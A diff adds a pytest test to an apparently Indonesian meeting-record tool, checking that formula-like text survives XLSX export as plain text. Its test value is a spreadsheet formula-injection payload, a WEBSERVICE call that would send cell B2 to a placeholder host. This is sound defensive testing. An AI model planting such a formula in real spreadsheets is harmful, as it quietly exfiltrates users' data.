@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import subprocess
 import sys
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -142,3 +143,21 @@ def test_append_row_stores_every_str_as_text(tmp_path):
     assert formula_cells(tmp_path / "t.xlsx") == []
     row = next(load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=True))
     assert list(row) == values
+
+
+def test_meeting_workbook_keeps_formula_like_text(tmp_path):
+    """A record written as XLSX (``write_meeting_xlsx``) keeps '=...' text as text and reads back."""
+    import shutil
+
+    from workbench.meeting.blank import write_meeting_xlsx
+    from workbench.meeting.load import load_meeting
+
+    fixtures = Path(__file__).parents[1] / "fixtures" / "meeting"
+    record = tmp_path / "meeting.yaml"
+    shutil.copy(fixtures / "minimal.yaml", record)
+    payload = '=WEBSERVICE("http://contoh.invalid/?"&B2)'
+    record.write_text(record.read_text(encoding="utf-8").replace(
+        "  - Standar output diterapkan.", f"  - '{payload}'"), encoding="utf-8")
+    target = write_meeting_xlsx(load_meeting(record), tmp_path / "rapat.xlsx")
+    assert formula_cells(target) == []
+    assert load_meeting(target).kesimpulan[0] == payload
